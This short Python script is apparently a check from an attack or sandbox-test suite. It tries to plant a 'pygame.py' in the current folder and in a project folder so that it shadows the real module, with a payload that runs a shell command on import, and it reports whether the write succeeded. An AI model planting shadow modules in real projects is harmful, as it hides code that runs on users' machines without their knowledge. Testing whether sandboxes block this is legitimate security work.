"""persistence: write a pygame.py that shadows the real one into the project."""

import os

from attacklib import *

for folder in (".", PROJECT):
    try:
        open(os.path.join(folder, "pygame.py"), "w").write("import os; os.system('id')")
        print("wrote pygame.py in", folder)
    except OSError as e:
        print("blocked", e)
if os.path.exists(os.path.join(PROJECT, "pygame.py")):
    succeeded("pygame.py in project")
